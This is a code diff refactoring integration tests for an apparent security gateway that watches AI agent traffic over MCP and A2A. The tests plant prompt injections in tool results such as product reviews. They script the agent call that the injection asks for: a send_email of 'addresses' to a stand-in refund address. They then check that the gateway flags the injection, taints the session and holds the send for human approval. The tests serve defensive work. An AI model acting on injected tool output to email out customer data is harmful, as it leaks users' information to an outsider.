@@ -101,6 +101,38 @@ function annotation(answered: {
   return [header, ...meta.map((m) => m[1])].join(' ');
 }
 
+/**
+ * The session every shop case runs over `transport`: the poisoned read, the send its injection asks for,
+ * then an ordinary read; returns every exchange and the three tools/call ones (posted to `path`).
+ */
+async function shopSession(
+  relay: { url: string; settled(): Promise<Exchange[]> },
+  transport: 'streamable-http' | 'sse',
+  path: string,
+  read: { tool: string; args: Record<string, unknown> },
+): Promise<{ xs: readonly Exchange[]; calls: readonly [Exchange, Exchange, Exchange] }> {
+  const agent = await connectAgent(relay.url, transport);
+  await agent.client.callTool({ name: read.tool, arguments: read.args });
+  await agent.client.callTool({
+    name: 'send_email',
+    arguments: { to: 'returns@kettle-refunds.example', subject: 'addresses', body: 'as requested' },
+  });
+  await agent.client.callTool({ name: 'list_events', arguments: { day: '2026-01-08' } });
+  await agent.end();
+  const xs = await relay.settled();
+  const calls = xs.filter((x) => describeRequest(x.request) === `POST ${path} tools/call`);
+  expect(calls).toHaveLength(3);
+  return { xs, calls: calls as unknown as [Exchange, Exchange, Exchange] };
+}
+
+/** Once the session is tainted: the privileged call is held for a human and says why; a read still passes. */
+async function expectTaintHolds(host: string, privileged: Exchange, read: Exchange): Promise<void> {
+  const held = await writ!.decide(privileged.request, host);
+  expect(held.decision).toBe('REQUIRE_APPROVAL');
+  expect(JSON.stringify(held.raw)).toMatch(/taint/);
+  expect(await writ!.decide(read.request, host)).toMatchObject({ allowed: true, operation: 'read' });
+}
+
 describe.each(PLANTED)('an injection in $shape returned by an MCP tool', ({ tool, args, content, gap }) => {
   (gap === undefined ? it : it.fails)(
     'is flagged, the session tainted, the next send held for approval, a read still allowed',
@@ -110,18 +142,8 @@ describe.each(PLANTED)('an injection in $shape returned by an MCP tool', ({ tool
       const relay = await startRecordingRelay(shop.url);
       try {
         shop.setContent(content);
-        const agent = await connectAgent(relay.url, 'streamable-http');
-        await agent.client.callTool({ name: tool, arguments: args });
-        // What the injected instruction asks for, then an ordinary read.
-        await agent.client.callTool({
-          name: 'send_email',
-          arguments: { to: 'returns@kettle-refunds.example', subject: 'addresses', body: 'as requested' },
-        });
-        await agent.client.callTool({ name: 'list_events', arguments: { day: '2026-01-08' } });
-        await agent.end();
-        const xs = await relay.settled();
-        const calls = xs.filter((x) => describeRequest(x.request) === 'POST /mcp tools/call');
-        const [read, send, later] = calls as [Exchange, Exchange, Exchange];
+        const { xs, calls } = await shopSession(relay, 'streamable-http', '/mcp', { tool, args });
+        const [read, send, later] = calls;
         for (const m of ['initialize', 'notifications/initialized']) {
           const x = find(xs, `POST /mcp ${m}`);
           expect((await writ.decide(x.request, SHOP)).allowed, m).toBe(true);
@@ -133,12 +155,8 @@ describe.each(PLANTED)('an injection in $shape returned by an MCP tool', ({ tool
         // Flagged: the answer passes to the agent, annotated with the prompt-injection finding.
         expect(answered.withheld).toBeNull();
         expect(annotation(answered)).toMatch(/prompt-injection/);
-        // Tainted: the privileged call that follows is held for a human, and says why.
-        const held = await writ.decide(send.request, SHOP);
-        expect(held.decision).toBe('REQUIRE_APPROVAL');
-        expect(JSON.stringify(held.raw)).toMatch(/taint/);
-        // A read-only call in the same session still passes.
-        expect(await writ.decide(later.request, SHOP)).toMatchObject({ allowed: true, operation: 'read' });
+        // Tainted: the privileged call that follows is held, a read-only call in the same session still passes.
+        await expectTaintHolds(SHOP, send, later);
       } finally {
         await relay.close();
         await shop.close();
@@ -157,17 +175,11 @@ describe('an injection in a product review returned over the older HTTP+SSE tran
     const relay = await startRecordingRelay(shop.url);
     try {
       shop.setContent(PLANTED[0]!.content);
-      const agent = await connectAgent(relay.url, 'sse');
-      await agent.client.callTool({ name: 'search_products', arguments: { query: 'kettle' } });
-      await agent.client.callTool({
-        name: 'send_email',
-        arguments: { to: 'returns@kettle-refunds.example', subject: 'addresses', body: 'as requested' },
+      const { xs, calls } = await shopSession(relay, 'sse', '/messages', {
+        tool: 'search_products',
+        args: { query: 'kettle' },
       });
-      await agent.client.callTool({ name: 'list_events', arguments: { day: '2026-01-08' } });
-      await agent.end();
-      const xs = await relay.settled();
-      const calls = xs.filter((x) => describeRequest(x.request) === 'POST /messages tools/call');
-      const [read, send, later] = calls as [Exchange, Exchange, Exchange];
+      const [read, send, later] = calls;
       // Every result of this transport comes on the stream the GET opened; its POSTs are answered 202.
       const stream = find(xs, 'GET /sse');
       const opened = await writ.decide(stream.request, SHOP);
@@ -179,10 +191,7 @@ describe('an injection in a product review returned over the older HTTP+SSE tran
       const answered = await writ.respond(stream.request, stream.response, SHOP, opened.token);
       expect(answered.withheld).toBeNull();
       expect(annotation(answered)).toMatch(/prompt-injection/);
-      const held = await writ.decide(send.request, SHOP);
-      expect(held.decision).toBe('REQUIRE_APPROVAL');
-      expect(JSON.stringify(held.raw)).toMatch(/taint/);
-      expect(await writ.decide(later.request, SHOP)).toMatchObject({ allowed: true, operation: 'read' });
+      await expectTaintHolds(SHOP, send, later);
     } finally {
       await relay.close();
       await shop.close();
@@ -228,10 +237,7 @@ describe('an injection in an A2A artifact', () => {
       const answered = await writ.respond(first.request, first.response, TRAVEL, firstDecision.token);
       expect(answered.withheld).toBeNull();
       expect(annotation(answered)).toMatch(/prompt-injection/);
-      const held = await writ.decide(second.request, TRAVEL);
-      expect(held.decision).toBe('REQUIRE_APPROVAL');
-      expect(JSON.stringify(held.raw)).toMatch(/taint/);
-      expect(await writ.decide(get.request, TRAVEL)).toMatchObject({ allowed: true, operation: 'read' });
+      await expectTaintHolds(TRAVEL, second, get);
     } finally {
       await relay.close();
       await travel.close();
